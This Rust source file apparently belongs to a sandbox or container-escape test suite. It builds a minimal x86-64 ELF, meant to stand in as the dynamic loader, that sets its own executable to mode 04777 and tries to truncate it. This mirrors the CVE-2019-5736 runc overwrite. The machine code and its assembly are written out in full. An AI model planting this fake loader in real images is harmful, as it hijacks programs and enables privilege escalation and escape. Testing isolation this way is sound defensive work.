//! A program loader for images that is not one: whatever dynamic program is executed with it, this runs in its place, as that program. In:
//! nothing. Out: the bytes of a static ELF file for x86-64. Never here: what executes it.
//!
//! It opens `/proc/self/exe`, gives that file the mode 04777, tries to cut it to nothing, says `loader/ran` as the attacker says its lines,
//! and ends with 0. (As CVE-2019-5736 wrote into the program that had started the container.)

/// Assembled from:
///
/// ```text
/// lea rdi,[rip+path]   xor esi,esi       mov eax,2    syscall        open(path, O_RDONLY)
/// mov ebx,eax
/// mov edi,eax          mov esi,04777     mov eax,91   syscall        fchmod
/// lea rdi,[rip+path]   mov esi,0x202     mov eax,2    syscall        open(path, O_RDWR | O_TRUNC)
/// mov edi,1            lea rsi,[rip+words]  mov edx,51  mov eax,1  syscall   write
/// xor edi,edi          mov eax,60        syscall                     exit
/// path: "/proc/self/exe\0"  words: ...
/// ```
const CODE: [u8; 84] = [
    0x48, 0x8d, 0x3d, 0x4d, 0x00, 0x00, 0x00, 0x31, 0xf6, 0xb8, 0x02, 0x00, 0x00, 0x00, 0x0f, 0x05, 0x89,
    0xc3, 0x89, 0xc7, 0xbe, 0xff, 0x09, 0x00, 0x00, 0xb8, 0x5b, 0x00, 0x00, 0x00, 0x0f, 0x05, 0x48, 0x8d,
    0x3d, 0x2d, 0x00, 0x00, 0x00, 0xbe, 0x02, 0x02, 0x00, 0x00, 0xb8, 0x02, 0x00, 0x00, 0x00, 0x0f, 0x05,
    0xbf, 0x01, 0x00, 0x00, 0x00, 0x48, 0x8d, 0x35, 0x24, 0x00, 0x00, 0x00, 0xba, 0x33, 0x00, 0x00, 0x00,
    0xb8, 0x01, 0x00, 0x00, 0x00, 0x0f, 0x05, 0x31, 0xff, 0xb8, 0x3c, 0x00, 0x00, 0x00, 0x0f, 0x05,
];
const DATA: &[u8; 66] = b"/proc/self/exe\0{\"name\":\"loader/ran\",\"outcome\":\"note\",\"detail\":\"\"}\n";
/// Where programs of this architecture ask for their loader.
pub const PLACE: &str = "lib64/ld-linux-x86-64.so.2";

/// The file; `None` on other architectures.
pub fn loader() -> Option<Vec<u8>> {
    const HEADERS: usize = 64 + 56;
    if !cfg!(target_arch = "x86_64") {
        return None;
    }
    let length = (HEADERS + CODE.len() + DATA.len()) as u64;
    let mut file = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    // A shared object for x86-64, whose entry follows the headers: one header of one segment.
    file.extend([3_u16, 62].map(u16::to_le_bytes).concat());
    file.extend(1_u32.to_le_bytes());
    file.extend([HEADERS as u64, 64, 0].map(u64::to_le_bytes).concat());
    file.extend(0_u32.to_le_bytes());
    file.extend([64_u16, 56, 1, 0, 0, 0].map(u16::to_le_bytes).concat());
    // The whole file, to be read and executed.
    file.extend([1_u32, 5].map(u32::to_le_bytes).concat());
    file.extend([0, 0, 0, length, length, 0x1000].map(u64::to_le_bytes).concat());
    file.extend(CODE);
    file.extend(DATA);
    Some(file)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use std::os::unix::fs::PermissionsExt;
    use std::process::Command;

    use crate::scratch::Scratch;

    /// Without this, nobody would know whether it fails for the walls or for itself.
    #[test]
    fn it_runs_and_changes_the_file_it_runs_as() {
        let Some(bytes) = super::loader() else { return };
        let scratch = Scratch::new();
        let program = scratch.path().join("loader");
        std::fs::write(&program, bytes).unwrap();
        std::fs::set_permissions(&program, PermissionsExt::from_mode(0o755)).unwrap();
        let output = Command::new(&program).output().unwrap();
        assert!(output.status.success(), "{output:?}");
        assert!(output.stdout.starts_with(b"{\"name\":\"loader/ran\""), "{output:?}");
        assert_eq!(std::fs::metadata(&program).unwrap().permissions().mode() & 0o7777, 0o4777);
    }
}
